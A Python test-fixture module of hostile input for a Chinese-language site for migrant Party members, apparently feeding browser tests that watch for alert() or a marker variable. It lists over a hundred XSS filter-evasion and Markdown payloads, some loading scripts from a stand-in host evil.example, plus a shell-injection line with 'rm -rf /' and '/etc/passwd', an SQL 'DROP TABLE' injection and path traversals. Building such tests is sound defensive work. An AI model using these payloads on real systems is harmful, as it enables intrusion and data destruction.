"""Hostile input a member can type: titles, authors, article bodies and questions.

Every case of the first real attack on the product (issue 11), plus the classic XSS filter
evasion list (OWASP's cheat sheet), Markdown-specific tricks and template syntax. Each
payload that would run calls alert() or sets window.__dx_pwned, which the browser tests
watch for.
"""

from __future__ import annotations

# Markup that must stay text wherever it goes: titles, authors, plain-text questions.
INLINE = [
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "&lt;/title&gt;&lt;script&gt;alert(3)&lt;/script&gt;",
    "&#60;script&#62;alert(4)&#60;/script&#62;",
    "<img src=x onerror=alert(5)>",
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "\"><script>alert(8)</script>",
    "'><img src=x onerror=alert(9)>",
    "\" onmouseover=\"alert(10)\" x=\"",
    "' onfocus='alert(11)' autofocus='",
    "[点我](javascript:alert(12))",
    "[点我](JaVaScRiPt:alert(13))",
    "标题 {: onmouseover=alert(14) }",
    "标题 {: #x .y onclick=\"alert(15)\" }",
    "<iframe src=javascript:alert(16)></iframe>",
    "<body onload=alert(17)>",
    "<a href=\"javascript&colon;alert(18)\">x</a>",
    "<a href=\"&#106;avascript:alert(19)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(20)\">x</a>",
    "<a href=\"java&#115;cript:alert(21)\">x</a>",
    "<a href=\"javascript&#58;alert(22)\">x</a>",
    "<javascript:alert(23)>",
    "<IMG SRC=\"jav\tascript:alert(24);\">",
    "<IMG SRC=\"jav&#x09;ascript:alert(25);\">",
    "<IMG SRC=\" &#14;  javascript:alert(26);\">",
    "<SCRIPT/XSS SRC=\"http://evil.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(27);//<</SCRIPT>",
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=\"`javascript:alert(28)`\">",
    "<IMG \"\"\"><SCRIPT>alert(29)</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert(30)\">",
    "<IMG SRC=/ onerror=\"alert(31)\"></img>",
    "<img src=x:alert(alt) onerror=eval(src) alt=32>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(33);\">",
    "<BODY BACKGROUND=\"javascript:alert(34)\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(35);\">",
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(36);\">",
    "<TABLE BACKGROUND=\"javascript:alert(37)\">",
    "<DIV STYLE=\"background-image: url(javascript:alert(38))\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://evil.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgzOSk8L3NjcmlwdD4=\">x</a>",
    "<details open ontoggle=alert(40)>",
    "<video><source onerror=\"alert(41)\"></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(42)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(43)>\">",
    "<form action=javascript:alert(44)><button>x</button></form>",
    "`<script>alert(45)</script>`",
    "{{ 7919 + 7919 }} {% if 1 %}jinja{% endif %} ${7919+7919}",
    "<!--<script>alert(46)</script>-->",
    "<![CDATA[<script>alert(47)</script>]]>",
    "<scr<script>ipt>alert(48)</scr</script>ipt>",
    "\u202e>tpircs/<)49(trela>tpircs<",
    "<script>window.__dx_pwned=50</script>",
    "\"\u0000<script>alert(51)</script>",
    "--><script>alert(52)</script>",
    "标题\n[点我](javascript:alert(53))",
    "标题\n\n# 新标题 {: onmouseover=alert(54) }",
    "| a | b |\n|---|---|\n| <script>alert(55)</script> | x |",
    "<style>body{display:none}</style>隐藏全站",
    "$(rm -rf /) ../../etc/passwd -rf `id`",
    "'; DROP TABLE submissions; --",
]

# Markdown bodies (articles, answers): the inline list, plus tricks that need whole blocks.
BLOCKS = [
    "[点我][r]\n\n[r]: javascript:alert(60)",
    "[点我][R]\n\n[R]: JAVASCRIPT:alert(61) \"标题\"",
    "## 标题 {: onmouseover=alert(62) }\n\n正文",
    "段落\n{: onclick=\"alert(63)\" }",
    "[点我](&#106;avascript:alert(64))",
    "[点我](javascript&colon;alert(65))",
    "[点我](java&#115;cript:alert(66))",
    "[点我](&#x6A;avascript:alert(67))",
    "[点我](javascript&#58;alert(68))",
    "[点我](  javascript:alert(69))",
    "[点我](<javascript:alert(70)>)",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCg3MSk8L3NjcmlwdD4=)",
    "[点我](vbscript:msgbox(72))",
    "![图](javascript:alert(73))",
    "![图](http://evil.example/track.png)",
    "![图](x \"onerror=alert(74)\")",
    "<div markdown=\"1\">[x](javascript:alert(75))</div>",
    "<details><summary>x</summary><script>alert(76)</script></details>",
    "    <script>alert(77)</script>\n\n代码块里的脚本",
    "```\n<script>alert(78)</script>\n```",
    "> 引用 <img src=x onerror=alert(79)>",
    "- 列表 [x](javascript:alert(80))\n- <svg onload=alert(81)>",
    "1. 第一\n2. [第二][z]\n\n[z]: javascript:alert(82)",
    "标题\n===\n\n<script>alert(83)</script>",
    "*[HTML]: <script>alert(84)</script>\n\nHTML 缩写",
    "[^1]\n\n[^1]: <script>alert(85)</script>",
    "<http://example.com/\"onmouseover=\"alert(86)>",
    "[x](https://example.com/\"onmouseover=\"alert(87))",
    "[x](https://example.com \"\"onmouseover=alert(88)\")",
    "<a href='https://example.com' onclick='alert(89)'>合法链接加事件</a>",
    "&lt;script&gt;alert(90)&lt;/script&gt; 与 &amp;lt;b&amp;gt;",
    "[点我](/app/editor/publish)",
    "[点我](../../etc/passwd)",
    "<form method=post action=/app/editor/publish><button>发布</button></form>",
    "正文里写电话 138 1234 5678 和 {: onmouseover=alert(91) } 在段落中",
]

# A sentence of Chinese so that bodies pass the article form's 50-character minimum.
FILLER = ("这是流动党员在外打工时写下的学习体会，记录每周在网上党校学习的内容和参加组织生活的感受，"
          "希望和大家交流。")

TITLES = [text[:60] for text in INLINE]
AUTHORS = [text[:40] for text in INLINE[:20]]
BODIES = [f"{FILLER}\n\n{text}\n\n{FILLER}" for text in INLINE + BLOCKS]
QUESTIONS = [f"{text}\n想问：外出半年，组织关系要不要转？" for text in INLINE + BLOCKS]

ALL = INLINE + BLOCKS
assert len(ALL) >= 100, len(ALL)
